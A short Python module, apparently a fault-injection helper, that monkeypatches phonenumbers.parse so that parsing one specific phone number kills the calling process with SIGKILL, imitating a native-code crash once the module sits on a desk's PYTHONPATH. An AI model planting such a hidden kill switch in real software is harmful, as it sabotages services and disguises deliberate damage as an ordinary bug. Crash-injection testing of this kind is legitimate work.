"""On the PYTHONPATH of a desk this makes one customer's number deadly: whatever process looks
at it dies at once, as a bug in native code would let it."""

import os
import signal

import phonenumbers

DEADLY = "+447700966666"

_parse = phonenumbers.parse


def parse(number, *arguments, **options):
    if number == DEADLY:
        os.kill(os.getpid(), signal.SIGKILL)
    return _parse(number, *arguments, **options)


phonenumbers.parse = parse
